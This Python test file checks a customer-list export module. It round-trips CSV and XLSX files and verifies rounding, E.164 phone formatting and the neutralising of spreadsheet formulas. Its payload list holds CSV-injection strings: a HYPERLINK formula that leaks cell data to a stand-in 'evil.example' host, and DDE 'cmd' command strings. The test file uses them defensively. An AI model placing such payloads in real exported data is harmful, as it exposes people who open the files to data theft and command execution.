"""Export files: every cell reads back, nothing runs, numbers and phones are written for people.

The round-trip tests write frames of every column type the reports export (and what a store's
text may hold) through :func:`custkit.exports.write_export` and read them back the way operators'
tools do: pandas with the file's dialect for the CSV, openpyxl for the XLSX. What is compared is
the frame after the stated rules (module docstring of :mod:`custkit.exports`), written out here
independently of the code: formula-like text gets a ``'`` in CSV, empty text is an empty cell,
fractions are rounded, phones are E.164, times are to the second.
"""

from __future__ import annotations

import datetime as dt
import math
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import phonenumbers
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import pandas as hpd

from custkit.data.store import Store, TableAccounting
from custkit.errors import ParamsError
from custkit.exports import (
    EXCEL_MAX_CELL_CHARS,
    CsvDialect,
    ExportSettings,
    _e164_slow,
    e164_fast,
    format_phones,
    prepare_export,
    round_for_people,
    write_csv,
    write_export,
)
from custkit.params import parse_params

DIALECTS = [CsvDialect(",", "."), CsvDialect(";", ","), CsvDialect("\t", ",")]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
SIGNED_NUMBER = re.compile(r"^[+-]\d+(?:[.,]\d+)?$")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+",
    "@",
]


# --- the stated rules, written out independently of custkit.exports -----------------------------


def neutralised(text: str) -> str:
    """OWASP: a formula-like text gets a leading quote; a plain signed number does not."""
    if FORMULA_START.match(text) and not SIGNED_NUMBER.match(text):
        return "'" + text
    return text


def excel_text(text: str) -> str:
    """Text as Excel reads it from the file: ECMA-376 ``_xHHHH_`` escapes decoded (openpyxl
    leaves them as they are)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def kind_of(values: pd.Series) -> str:
    if pd.api.types.is_bool_dtype(values.dtype):
        return "bool"
    if pd.api.types.is_integer_dtype(values.dtype):
        return "int"
    if pd.api.types.is_float_dtype(values.dtype):
        return "float"
    if pd.api.types.is_datetime64_any_dtype(values.dtype):
        return "datetime"
    return "text"


def expected_frame(frame: pd.DataFrame, region: str | None = "RU") -> pd.DataFrame:
    """The frame as the files must hold it: rounded, phones in E.164, text as text, times to the
    second in their wall-clock time, empty text missing."""
    prepared = prepare_export(frame, phone_region=region).frame
    out = {}
    for column in prepared.columns:
        values = prepared[column]
        kind = kind_of(values)
        if kind == "datetime":
            if isinstance(values.dtype, pd.DatetimeTZDtype):
                values = values.dt.tz_localize(None)
            values = values.astype("datetime64[ns]").dt.floor("s")
        elif kind == "text":
            cells = [None if pd.isna(v) or str(v) == "" else str(v) for v in values]
            values = pd.Series(cells, index=values.index, dtype="object")
        out[column] = values
    return pd.DataFrame(out)


def read_csv_back(path: Path, dialect: CsvDialect) -> pd.DataFrame:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return pd.read_csv(
        path,
        sep=dialect.sep,
        encoding="utf-8-sig",
        dtype=str,
        keep_default_na=False,
        na_values=[],
    )


def read_xlsx_back(path: Path, rows_expected: int | None = None) -> tuple[list[str], list[tuple]]:
    """Header and rows of the first sheet. An XLSX cannot hold empty rows at the end of a
    sheet (no cell, no row): with *rows_expected*, they are added back as empty rows."""
    book = openpyxl.load_workbook(path, read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    book.close()
    header, body = [str(c) for c in rows[0]], rows[1:]
    if rows_expected is not None and len(body) < rows_expected:
        body += [(None,) * len(header)] * (rows_expected - len(body))
    return header, body


def csv_value(text: str, kind: str, dialect: CsvDialect):
    if text == "":
        return None
    if kind in ("int", "float"):
        return (
            float(text.replace(dialect.decimal, "."))
            if text not in ("inf", "-inf")
            else (math.inf if text == "inf" else -math.inf)
        )
    if kind == "bool":
        return {"true": True, "false": False}[text]
    if kind == "datetime":
        return pd.Timestamp(text)
    return text


def same_number(a, b) -> bool:
    if isinstance(a, str):  # a long integer, an infinity or a huge float as text in XLSX
        a = int(a) if re.fullmatch(r"-?\d+", a) else float(a)
    return a == b or math.isclose(float(a), float(b), rel_tol=1e-15)


def assert_round_trip(frame: pd.DataFrame, folder: Path, dialect: CsvDialect) -> None:
    """Every row, column and value of *frame* is in the CSV and (where written) the XLSX."""
    settings_ = ExportSettings(dialect=dialect, phone_region="RU")
    written = write_export(frame, folder, "list", settings_)
    expected = expected_frame(frame)
    names = [str(c) for c in expected.columns]

    csv = read_csv_back(folder / "list.csv", dialect)
    assert list(csv.columns) == names
    assert len(csv) == len(expected)
    for column, name in zip(expected.columns, names, strict=True):
        kind = kind_of(expected[column])
        for text, want in zip(csv[name], expected[column], strict=True):
            got = csv_value(text, kind, dialect)
            if want is None or (kind != "text" and pd.isna(want)):
                assert got is None, (name, text)
            elif kind == "text":
                assert got == neutralised(want), (name, got, want)
            elif kind in ("int", "float"):
                assert same_number(got, want), (name, text, want)
            else:
                assert got == want, (name, text, want)

    if written.no_xlsx:
        assert not (folder / "list.xlsx").exists()
        return
    header, rows = read_xlsx_back(folder / "list.xlsx", len(expected))
    assert header == names
    assert len(rows) == len(expected)
    for i, (column, name) in enumerate(zip(expected.columns, names, strict=True)):
        kind = kind_of(expected[column])
        for row, want in zip(rows, expected[column], strict=True):
            got = row[i]
            if want is None or (kind != "text" and pd.isna(want)):
                assert got is None, (name, got)
            elif kind == "text":
                want = re.sub("[\ufffe\uffff]", "\ufffd", want)
                assert isinstance(got, str) and excel_text(got) == want, (name, got, want)
            elif kind in ("int", "float"):
                assert same_number(got, want), (name, got, want)
            elif kind == "bool":
                assert got is bool(want), (name, got, want)
            elif isinstance(got, str):  # before 1900-03-01: written as text
                assert pd.Timestamp(got) == want and want < pd.Timestamp("1900-03-01")
            else:
                assert pd.Timestamp(got).round("s") == want, (name, got, want)


# --- frames of every kind -----------------------------------------------------------------------

texts = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
    max_size=30,
) | st.sampled_from([*PAYLOADS, "", "a;b", 'say "hi"', "line\nbreak", "Ёлка, ёж", "-15", "+7916"])
finite = st.floats(allow_nan=False, allow_infinity=False, min_value=-1e14, max_value=1e14)
moments = st.datetimes(min_value=dt.datetime(1800, 1, 1), max_value=dt.datetime(2100, 1, 1))


@st.composite
def export_frames(draw, max_rows: int = 40) -> pd.DataFrame:
    n = draw(st.integers(0, max_rows))

    def column(strategy):
        return draw(st.lists(strategy, min_size=n, max_size=n))

    stamps = pd.to_datetime(pd.Series(column(st.none() | moments), dtype="object"))
    frame = pd.DataFrame(
        {
            "customer_id": pd.array(column(st.integers(-(2**62), 2**62)), dtype="int64"),
            "orders": pd.array(column(st.none() | st.integers(0, 10**6)), dtype="Int64"),
            "orders_float": pd.Series(column(st.none() | st.integers(0, 10**6)), dtype="float64"),
            "revenue": pd.Series(column(st.none() | finite), dtype="float64"),
            "p_alive": pd.Series(
                column(st.none() | st.floats(0, 1) | st.floats(1e-300, 1e-5)), dtype="float64"
            ),
            "score": pd.Series(
                column(st.floats(allow_nan=True, allow_infinity=True)), dtype="float64"
            ),
            "name": pd.Series(column(st.none() | texts), dtype="object"),
            "city": pd.Series(column(st.none() | texts), dtype="str"),
            "tier": pd.Categorical(column(st.none() | st.sampled_from(["top_1%", "=A1", "rest"]))),
            "consent_email": pd.Series(column(st.booleans()), dtype="bool"),
            "consent_sms": pd.array(column(st.none() | st.booleans()), dtype="boolean"),
            "last_order": stamps,
            "birth_date": pd.Series(stamps.dt.normalize()),
            "registered_at": pd.Series(stamps).dt.tz_localize("Europe/Moscow", ambiguous="NaT"),
        }
    )
    return frame


@pytest.mark.parametrize("dialect", DIALECTS, ids=["comma", "semicolon", "tab"])
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(frame=export_frames())
def test_every_cell_of_every_column_type_reads_back_from_csv_and_xlsx(frame, dialect, tmp_path):
    assert_round_trip(frame, tmp_path, dialect)


@pytest.mark.parametrize("dialect", DIALECTS[:2], ids=["comma", "semicolon"])
def test_thousands_of_rows_read_back_from_csv_and_xlsx(dialect, tmp_path):
    """A list as long as the reports' (5,000 rows, chunked writing crossed), every kind of value."""
    rng = np.random.default_rng(5)
    n = 5_000
    stamps = pd.Timestamp("1950-01-01") + pd.to_timedelta(rng.integers(0, 4e9, n), unit="s")
    frame = pd.DataFrame(
        {
            "customer_id": np.arange(n) + 10**6,
            "name": rng.choice(["Анна", "=HYPERLINK(1)", "a;b", 'x "q"', "", None, "-x"], n),
            "phone": rng.choice(["8 916 123-45-67", "+7 (955) 481-28-12", "n/a", None], n),
            "revenue": rng.gamma(2, 5000, n),
            "p_alive": rng.random(n),
            "orders": np.where(rng.random(n) < 0.1, np.nan, rng.integers(1, 40, n)),
            "last_order_date": stamps,
            "consent_sms": rng.random(n) < 0.5,
        }
    )
    assert_round_trip(frame, tmp_path, dialect)


# --- formulas ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["name", "email", "city", "tier"])
def test_formula_like_text_is_neutralised_in_csv_and_plain_text_in_xlsx(payload, column, tmp_path):
    values = [payload, "Анна"]
    frame = pd.DataFrame(
        {
            "customer_id": [1, 2],
            column: pd.Categorical(values) if column == "tier" else values,
            "revenue": [-5.0, -1234.5],
        }
    )
    write_export(frame, tmp_path, "list", ExportSettings())
    csv = read_csv_back(tmp_path / "list.csv", CsvDialect())
    assert csv.loc[0, column] == "'" + payload
    assert csv["revenue"].tolist() == ["-5", "-1234.5"]  # numbers stay numbers, signs and all
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    cell = book.worksheets[0].cell(row=2, column=2)
    assert cell.data_type == "s" and excel_text(cell.value) == payload
    assert book.worksheets[0].cell(row=2, column=3).data_type == "n"
    with zipfile.ZipFile(tmp_path / "list.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    assert "hyperlink" not in sheet.lower() or "HYPERLINK(" in payload


@pytest.mark.parametrize(
    ("text", "prefixed"),
    [
        ("+79161234567", False),  # E.164: nothing a spreadsheet can run
        ("-15", False),
        ("-1,5", False),
        ("+1.25", False),
        ("+7 916 123", True),  # not only a sign and digits
        ("-1-1", True),
        ("=1", True),
        ("a=1", False),
        (" =1", False),
    ],
)
def test_only_text_a_spreadsheet_could_run_gets_the_quote(text, prefixed, tmp_path):
    path = write_csv(pd.DataFrame({"note": [text]}), tmp_path / "x.csv", CsvDialect(";", ","))
    got = read_csv_back(path, CsvDialect(";", ","))["note"].iloc[0]
    assert got == ("'" + text if prefixed else text)


# --- numbers -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "values", "want"),
    [
        ("share", [0.1 + 0.2], [0.3]),
        ("revenue", [1234.5678, 0.005, 19.999], [1234.57, 0.01, 20.0]),
        ("value_at_risk", [3492.3080280166632], [3492.31]),
        ("clv", [21578.123308748378], [21578.12]),
        ("p_alive", [0.9800917724165314, 0.5711842377990921], [0.9801, 0.5712]),
        ("p_value", [1.23456e-7, 0.6871208719563564], [1.235e-7, 0.6871]),  # 4 significant digits
        ("expected_purchases", [6.6097989620207045, 123.456], [6.61, 123.46]),
        ("estimate", [-0.1300114547537229], [-0.13]),
    ],
)
def test_fractions_are_rounded_for_people(name, values, want):
    got = round_for_people(pd.Series(values, dtype="float64"), name)
    assert got.tolist() == pytest.approx(want, rel=1e-12, abs=0)
    assert [repr(v) for v in got] == [repr(float(w)) for w in want]


@pytest.mark.parametrize(
    "values",
    [[1.0, 2.0, np.nan], [100001.0, 100002.0], [0.0], [-3.0, np.nan]],
    ids=["counts-with-gaps", "excel-ids", "zero", "negative"],
)
def test_whole_number_floats_are_written_as_integers_never_as_1_0(values, tmp_path):
    frame = pd.DataFrame({"orders": values})
    assert str(round_for_people(frame["orders"]).dtype) == "Int64"
    write_export(frame, tmp_path, "x", ExportSettings())
    text = (tmp_path / "x.csv").read_text(encoding="utf-8-sig")
    assert ".0" not in text
    _, rows = read_xlsx_back(tmp_path / "x.xlsx", len(values))
    assert [r[0] for r in rows] == [None if np.isnan(v) else int(v) for v in values]


def test_integer_ids_stay_integers_and_long_ones_stay_exact_in_xlsx(tmp_path):
    frame = pd.DataFrame({"order_id": [10**17 + 1, 5], "customer_id": ["00123", "7"]})
    write_export(frame, tmp_path, "x", ExportSettings())
    csv = read_csv_back(tmp_path / "x.csv", CsvDialect())
    assert csv["order_id"].tolist() == [str(10**17 + 1), "5"]
    assert csv["customer_id"].tolist() == ["00123", "7"]
    _, rows = read_xlsx_back(tmp_path / "x.xlsx")
    assert rows == [(str(10**17 + 1), "00123"), (5, "7")]  # beyond 15 digits: text, exact


@settings(max_examples=300, deadline=None)
@given(x=st.floats(allow_nan=False, allow_infinity=False, min_value=-1e13, max_value=1e13))
def test_rounding_keeps_two_decimals_or_four_significant_digits_and_is_close(x):
    got = round_for_people(pd.Series([x + 0.1]), "share").iloc[0]  # never a whole number
    want = x + 0.1
    magnitude = math.floor(math.log10(abs(want))) if want else 0
    decimals = max(2, 3 - magnitude)
    assert abs(float(got) - want) <= 0.5 * 10.0**-decimals * (1 + 1e-9) + abs(want) * 1e-15
    assert float(got) == round(float(got), decimals)


# --- phones --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "region", "e164"),
    [
        ("+79161234567", "RU", "+79161234567"),
        ("+7 (916) 123-45-67", "RU", "+79161234567"),
        ("8 916 123 45 67", "RU", "+79161234567"),
        ("89161234567", "RU", "+79161234567"),
        ("79161234567", "RU", "+79161234567"),
        ("9161234567", "RU", "+79161234567"),
        ("8 (812) 123-45-67", "RU", "+78121234567"),
        ("+49 30 1234567", "RU", "+49301234567"),
        ("030 1234567", "DE", "+49301234567"),
        ("(202) 555-0143", "US", "+12025550143"),
        ("+1 202 555 0143", None, "+12025550143"),
        ("8 916 123 45 67", None, None),  # no region: a national number cannot be read
        ("+7 916 123 45 67 доб. 12", "RU", None),  # an extension: kept, not dropped
        ("не указан", "RU", None),
        ("12", "RU", None),
        ("+7 916 123", "RU", None),
    ],
)
def test_phones_are_written_in_e164_or_kept_as_written_and_counted(written, region, e164):
    phones, kept = format_phones(pd.Series([written, None, ""]), region)
    assert phones.iloc[0] == (e164 or written)
    assert pd.isna(phones.iloc[1]) and pd.isna(phones.iloc[2])
    assert kept == (0 if e164 else 1)


def test_numeric_phones_are_read_as_their_digits():
    phones, kept = format_phones(pd.Series([79161234567.0, np.nan]), "RU")
    assert phones.iloc[0] == "+79161234567" and pd.isna(phones.iloc[1]) and kept == 0
    prepared = prepare_export(pd.DataFrame({"phone": [89161234567.0, np.nan]}), "RU")
    assert prepared.frame["phone"].iloc[0] == "+79161234567" and prepared.phones_kept == 0


separators = st.sampled_from(["", " ", "-", "(", ")", "."])


@st.composite
def phone_texts(draw) -> tuple[str, str]:
    region = draw(st.sampled_from(["RU", "KZ", "DE", "GB", "US", "FR", "IT", "BY", "UA", "CN"]))
    code = str(phonenumbers.country_code_for_region(region))
    digits = draw(st.text(alphabet="0123456789", min_size=5, max_size=14))
    form = draw(st.sampled_from(["plus", "plus-other", "national", "bare"]))
    if form == "plus":
        number = "+" + code + digits
    elif form == "plus-other":
        number = "+" + draw(st.sampled_from(["1", "44", "49", "7", "86", "380", "998"])) + digits
    elif form == "national":
        prefix = phonenumbers.PhoneMetadata.metadata_for_region(region).national_prefix or ""
        number = prefix + digits
    else:
        number = digits
    spaced = "".join(ch + draw(separators) for ch in number)
    return spaced, region


@settings(max_examples=1500, deadline=None)
@given(case=phone_texts())
def test_the_vectorised_e164_path_agrees_with_phonenumbers(case):
    text, region = case
    fast = e164_fast(pd.Series([text]), region).iloc[0]
    if not pd.isna(fast):
        assert fast == _e164_slow(text, region), (text, region)


# --- dialect, params, limits --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "sep", "decimal", "region"),
    [
        ({}, ",", ".", None),
        ({"language": "ru"}, ";", ",", "RU"),
        ({"store": {"currency": "RUB"}}, ",", ".", "RU"),
        ({"store": {"country": "kz"}}, ",", ".", "KZ"),
        ({"language": "ru", "exports": {"sep": ",", "decimal": "."}}, ",", ".", "RU"),
        ({"exports": {"decimal": ","}}, ";", ",", None),
        ({"exports": {"sep": "\t"}}, "\t", ".", None),
    ],
)
def test_csv_dialect_follows_the_report_language_unless_params_say_otherwise(
    raw, sep, decimal, region
):
    params = parse_params({"sources": {"orders": "o.csv"}, **raw})
    settings_ = ExportSettings.from_params(params)
    assert settings_.dialect == CsvDialect(sep, decimal)
    assert settings_.phone_region == region


@pytest.mark.parametrize(
    ("exports", "match"),
    [
        ({"sep": "|"}, r"exports.sep must be one of"),
        ({"decimal": ";"}, r"exports.decimal must be one of"),
        ({"sep": ",", "decimal": ","}, r"cannot be read back"),
        ({"xlsx_max_rows": 2_000_000}, r"xlsx_max_rows must be a whole number from 0"),
        ({"xlsx_max_rows": "many"}, r"Got 'many' instead"),
        ({"xlsx_max_rows": True}, r"Got True instead"),
        ({"delimiter": ";"}, r"unknown exports option 'exports.delimiter'"),
        ("semicolon", r"exports must be a mapping"),
    ],
)
def test_wrong_exports_options_are_params_errors(exports, match):
    with pytest.raises(ParamsError, match=match):
        parse_params({"sources": {"orders": "o.csv"}, "exports": exports})


def test_ru_default_with_a_comma_separator_is_refused():
    with pytest.raises(ParamsError, match="cannot be read back"):
        parse_params({"sources": {"orders": "o.csv"}, "language": "ru", "exports": {"sep": ","}})


@pytest.mark.parametrize("country", ["Russia", "XX", 7])
def test_unknown_store_country_is_a_params_error(country):
    with pytest.raises(ParamsError, match=r"store\.country must be a two-letter country code"):
        parse_params({"sources": {"orders": "o.csv"}, "store": {"country": country}})


def test_a_list_longer_than_the_xlsx_cap_gets_the_csv_only_and_no_stale_xlsx(tmp_path):
    (tmp_path / "list.xlsx").write_bytes(b"an earlier run's file")
    frame = pd.DataFrame({"customer_id": range(5)})
    written = write_export(frame, tmp_path, "list", ExportSettings(xlsx_max_rows=4))
    assert [p.name for p in written.paths] == ["list.csv"] and written.no_xlsx == "rows"
    assert not (tmp_path / "list.xlsx").exists()
    assert len(read_csv_back(tmp_path / "list.csv", CsvDialect())) == 5


def test_a_cell_longer_than_excel_holds_gets_the_csv_only(tmp_path):
    frame = pd.DataFrame({"text": ["x" * (EXCEL_MAX_CELL_CHARS + 1), "y"]})
    written = write_export(frame, tmp_path, "list", ExportSettings())
    assert written.no_xlsx == "long_text" and not (tmp_path / "list.xlsx").exists()
    assert read_csv_back(tmp_path / "list.csv", CsvDialect())["text"].str.len().tolist() == [
        EXCEL_MAX_CELL_CHARS + 1,
        1,
    ]


def test_xlsx_holds_every_row_and_column_not_just_the_first_column_and_last_row(tmp_path):
    """The regression of issue 13: pandas' to_excel with constant_memory kept one column."""
    frame = pd.DataFrame(
        {"customer_id": range(1, 3417), "name": "Анна", "email": "a@b.ru", "phone": "+79161234567"}
    )
    write_export(frame, tmp_path, "reactivation_list", ExportSettings(phone_region="RU"))
    header, rows = read_xlsx_back(tmp_path / "reactivation_list.xlsx")
    assert header == ["customer_id", "name", "email", "phone"] and len(rows) == 3416
    assert all(r[1:] == ("Анна", "a@b.ru", "+79161234567") for r in rows)
    assert [r[0] for r in rows] == list(range(1, 3417))


# --- quarantine files ----------------------------------------------------------------------------


def _store_with_rejected(bad: pd.DataFrame, language: str = "en") -> Store:
    params = parse_params({"sources": {"orders": "o.csv"}, "language": language})
    orders = pd.DataFrame(
        {"order_id": ["1"], "customer_id": ["1"], "order_date": [pd.Timestamp("2025-01-01")]}
    )
    accounting = {
        "orders": TableAccounting(
            table="orders", source="o.csv", read=len(bad) + 1, accepted=1, rejected=len(bad)
        )
    }
    return Store(
        name="Shop",
        orders=orders.assign(revenue=1.0),
        customers=None,
        feedback=None,
        messages=None,
        experiments=None,
        accounting=accounting,
        rejected={"orders": bad},
        params=params,
    )


@pytest.mark.parametrize("language", ["en", "ru"])
@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    raw=hpd.data_frames(
        [
            hpd.column("order_id", elements=st.none() | texts, dtype=object),
            hpd.column("revenue", elements=st.none() | texts, dtype=object),
            hpd.column("comment", elements=st.none() | texts, dtype=object),
        ],
        index=hpd.range_indexes(min_size=1, max_size=30),
    )
)
def test_quarantine_files_hold_every_rejected_row_as_read_with_formulas_neutralised(
    raw, language, tmp_path
):
    from custkit.data.load import write_quarantine

    bad = raw.copy()
    bad.insert(0, "rejection_reason", "unparseable_amount")
    bad.insert(0, "source_row", np.arange(2, len(bad) + 2))
    path = write_quarantine(_store_with_rejected(bad, language), tmp_path / "q")["orders"]
    dialect = CsvDialect(";", ",") if language == "ru" else CsvDialect()
    back = read_csv_back(path, dialect)
    assert list(back.columns) == [
        "source_row",
        "rejection_reason",
        "rejection_explanation",
        "order_id",
        "revenue",
        "comment",
    ]
    assert back["source_row"].tolist() == [str(i) for i in range(2, len(bad) + 2)]
    for column in ("order_id", "revenue", "comment"):
        want = [None if v is None or v == "" else neutralised(v) for v in raw[column]]
        got = [None if v == "" else v for v in back[column]]
        assert got == want, column


# --- a real report ------------------------------------------------------------------------------


def test_a_russian_audit_on_a_small_store_exports_lists_whose_csv_and_xlsx_agree(tmp_path):
    """One real report: every export file reads back with every row and column, in the Russian
    dialect, CSV and XLSX alike, with store text that looks like formulas neutralised."""
    import yaml

    from custkit.data.demo import write_demo_store
    from custkit.reports import run_report

    data = write_demo_store(tmp_path / "data", 1200, seed=11)
    customers = pd.read_csv(data / "customers.csv", dtype=str, keep_default_na=False)
    customers.loc[::7, "name"] = '=HYPERLINK("http://evil.example","Анна")'
    customers.loc[1::7, "city"] = "@SUM(1+1)"
    customers.to_csv(data / "customers.csv", index=False)
    params = yaml.safe_load((data / "params.yaml").read_text(encoding="utf-8"))
    (data / "params.yaml").write_text(
        yaml.safe_dump({"language": "ru", **params}, allow_unicode=True), encoding="utf-8"
    )

    result = run_report("audit", data / "params.yaml", out_dir=tmp_path / "reports")
    assert result.ok, result.error
    exports = result.html.parent / "exports"
    files = sorted(exports.glob("*.csv"))
    assert {p.stem for p in files} >= {"reactivation_list", "birthdays_next_month"}
    dialect = CsvDialect(";", ",")
    neutralised_cells = 0
    for path in files:
        csv = read_csv_back(path, dialect)
        header, rows = read_xlsx_back(path.with_suffix(".xlsx"))
        assert header == list(csv.columns) and len(rows) == len(csv), path.name
        for i, name in enumerate(header):
            for text, cell in zip(csv[name], (r[i] for r in rows), strict=True):
                assert (text == "") == (cell is None), (path.name, name, text, cell)
                if cell is None:
                    continue
                if isinstance(cell, str):
                    assert text == neutralised(cell), (path.name, name, text, cell)
                elif isinstance(cell, bool):
                    assert text == str(cell).lower()
                elif isinstance(cell, dt.datetime):
                    assert pd.Timestamp(text) == pd.Timestamp(cell).round("s")
                else:
                    assert float(text.replace(",", ".")) == pytest.approx(cell, rel=1e-15)
        if "phone" in csv.columns:
            phones = csv["phone"][csv["phone"] != ""]
            assert phones.str.fullmatch(r"\+\d{8,15}").mean() > 0.95, path.name
        for name in csv.columns:
            text = csv[name][csv[name] != ""]
            assert not text.str.match(r"^[=@]").any(), (path.name, name)
            neutralised_cells += int(text.str.startswith("'=HYPERLINK(").sum())
    assert neutralised_cells > 0  # the store's formula-like names did reach the lists


def test_repeated_column_names_and_an_index_are_all_written(tmp_path):
    frame = pd.DataFrame([[1, 0.123456, "=x"], [2, 2.5, "y"]], columns=["id", "share", "id"])
    frame.index = pd.Index(["a", "b"], name="segment")
    write_export(frame, tmp_path, "x", ExportSettings())
    text = (tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()
    assert text == ["segment,id,share,id", "a,1,0.1235,'=x", "b,2,2.5,y"]
    header, rows = read_xlsx_back(tmp_path / "x.xlsx")
    assert header == ["segment", "id", "share", "id"]
    assert rows == [("a", 1, 0.1235, "=x"), ("b", 2, 2.5, "y")]
